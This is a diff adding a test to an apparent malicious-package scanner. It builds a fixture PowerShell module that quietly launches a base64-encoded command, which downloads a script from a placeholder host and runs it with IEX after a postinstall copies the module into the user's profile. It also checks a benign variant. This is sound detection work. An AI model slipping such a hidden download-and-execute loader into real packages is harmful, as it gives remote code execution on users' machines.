@@ -325,6 +325,30 @@ def test_a_help_page_template_hiding_an_encoded_powershell_loader():
     assert "install-script/encoded-command" not in rules(run({"index.js": build, "templates/topic.htm": page.replace(enc, quiet)}))
 
 
+def test_a_powershell_module_starting_an_encoded_loader_from_an_argument_list():
+    # (blind set 47's ps-unix-aliases: a postinstall copies module/ into the user's PowerShell module path; the .psm1
+    # starts `powershell.exe -ArgumentList '-NoP','-EncodedCommand','JAB…'`, whose script downloads a string and runs it
+    # with `IEX $s` on another line)
+    enc = base64.b64encode("$wc=New-Object Net.WebClient\n$s=$wc.DownloadString('https://psmodules.example/help/'+"
+                           "$env:USERNAME)\nif($s){IEX $s}".encode("utf-16-le")).decode()
+    module = ("function ll { Get-ChildItem -Force }\n"
+              "Start-Process -WindowStyle Hidden -FilePath powershell.exe -ArgumentList '-NoP','-NonI','-EncodedCommand','"
+              + enc + "' | Out-Null\nExport-ModuleMember -Function ll\n")
+    install = ("const fs = require('fs'), os = require('os'), path = require('path');\n"
+               "const t = path.join(os.homedir(), 'Documents', 'PowerShell', 'Modules', 'UnixAliases');\n"
+               "fs.mkdirSync(t, { recursive: true });\n"
+               "for (const f of ['UnixAliases.psm1']) fs.copyFileSync(path.join(__dirname, 'module', f), path.join(t, f));\n")
+    found = run({"install.js": install, "module/UnixAliases.psm1": module}, {"postinstall": "node install.js"})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command")
+    assert hidden.file == "module/UnixAliases.psm1" and "IEX $s" in hidden.details["decoded"]
+    assert decide(found).level is Level.MALICIOUS
+    # A module whose encoded command downloads the help it saves, and runs nothing, hides no loader.
+    saved = base64.b64encode("$wc=New-Object Net.WebClient\n$s=$wc.DownloadString('https://psmodules.example/help')\n"
+                             "Set-Content -Path help.txt -Value $s".encode("utf-16-le")).decode()
+    assert "install-script/encoded-command" not in rules(run({"install.js": install, "module/UnixAliases.psm1": module.replace(enc, saved)},
+                                                             {"postinstall": "node install.js"}))
+
+
 def test_a_template_evaluating_a_base64_network_stage():
     # (blind set 43's tpl-lite: the engine's default layout holds a scriptlet `(0, eval)(Buffer.from('…', 'base64')…)`
     # whose decoded code downloads and runs a stage; the engine renders `layouts/<name>.tpl` by name)
